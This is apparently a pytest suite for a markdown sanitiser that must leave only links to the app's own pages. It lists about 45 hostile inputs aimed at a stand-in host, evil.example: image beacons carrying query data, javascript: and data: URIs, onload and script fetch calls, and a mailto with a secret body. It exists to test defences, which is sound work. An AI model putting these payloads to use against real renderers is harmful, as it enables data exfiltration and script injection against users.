"""Markdown that leaves: no image, no tag, no address, no link but to our own pages."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from api.tracy.sanitise import PAGES, plain_label, sanitise_markdown

HOSTILE = [
    "![x](http://evil.example/a.png?d=1)",
    "![x][r]\n\n[r]: http://evil.example/a",
    "[r]: <http://evil.example/a> 'title'",
    "> [r]:\nhttp://evil.example/a\n\n![x][r]",
    "!\u200b[x](http://evil.example)",
    "!![x](http://evil.example)",
    "! [x](http://evil.example)",
    "[![x](http://evil.example/i)](http://evil.example/l)",
    "[a](http://evil.example)",
    "[a](//evil.example)",
    "[a](/\\evil.example)",
    "[a](\\/\\/evil.example)",
    "[a](&#104;ttp://evil.example)",
    "[a](&sol;&sol;evil.example)",
    "[a](/%2f%2fevil.example)",
    "[a](/traces/../../evil)",
    "[a](/traces/x//evil.example)",
    "[a](/traces/x?span=s&next=//evil.example)",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](data:text/html;base64,AAAA)",
    "[a](mailto:x@evil.example?body=secret)",
    "[a](/traces/x\n(http://evil.example))",
    "[a]\n(http://evil.example)",
    "[a](<http://evil.example>)",
    "[a]((http://evil.example))",
    "[a]( http://evil.example 'x')",
    "<img src=http://evil.example/x>",
    "<IMG SRC='//evil.example/x'>",
    "<svg/onload=fetch('//evil.example')>",
    "<a href=//evil.example>x</a>",
    "<http://evil.example>",
    "<x@evil.example>",
    "http://evil.example/?d=1",
    "HTTPS://evil.example",
    "ftp://evil.example",
    "www.evil.example/x",
    "ht\u200btp://evil.example",
    "http:\\\\evil.example",
    "\u202e[a](http://evil.example)",
    "`x` ![x](http://evil.example)",
    "```\n![x](http://evil.example)\n```",
    "<!-- x --><script>fetch('//evil.example')</script>",
    "[a](/traces/x)(http://evil.example)",
    "[a](/traces/x 'http://evil.example')",
]


def reaches_out(text: str) -> list[str]:
    """What a full renderer, HTML and autolinks on, makes of the text that leads anywhere but to our pages."""
    html = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render(text)
    found = re.findall(r"<(?:img|script|svg|iframe|object|video|audio|link|style|form|input)\b[^>]*>", html, re.I)
    return found + [href for href in re.findall(r'href="([^"]*)"', html) if not PAGES.fullmatch(href)]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_reaches_out(text: str) -> None:
    clean = sanitise_markdown(text)
    assert reaches_out(clean) == []
    assert "://" not in clean
    assert "evil.example" not in clean or "](" not in clean.replace("](/traces/x)", "")


def test_the_check_bites() -> None:
    assert reaches_out("![x](http://evil.example)")
    assert reaches_out("<img src=x>")
    assert reaches_out("[a](//evil.example)")


@pytest.mark.parametrize(
    "text",
    [
        "# Costs\n\n- **dear**: `gpt`\n- *cheap*\n\n| a | b |\n|---|---|\n| x | y |",
        "[this run](/traces/tr12ab) and [its span](/traces/tr12ab?span=s-1)",
        "[agent](/agents/main) [alerts](/alerts) [session](/sessions/agent:main:x)",
        "a < b, a <= b and x > y",
        "```sql\nSELECT a FROM spans WHERE depth < 3\n```",
        "See [[$1.23|r1.0.cost_usd]]!",
        "What now? Wait! [[a|r1.0.b]]",
    ],
)
def test_plain_text_stays(text: str) -> None:
    assert sanitise_markdown(text) == text


@given(st.text(alphabet="![]()<>/\\:hftpw.a&#; \n'\"`|x@1", max_size=60))
def test_no_mix_of_signs_reaches_out(text: str) -> None:
    clean = sanitise_markdown(text)
    assert reaches_out(clean) == []


@given(st.text(max_size=300), st.integers(10, 120))
def test_a_label_is_short_and_plain(text: str, max_chars: int) -> None:
    label = plain_label(text, max_chars)
    assert len(label) <= max_chars
    assert not set(label) & set("<>{}\\`[]|\n")
    assert "://" not in label
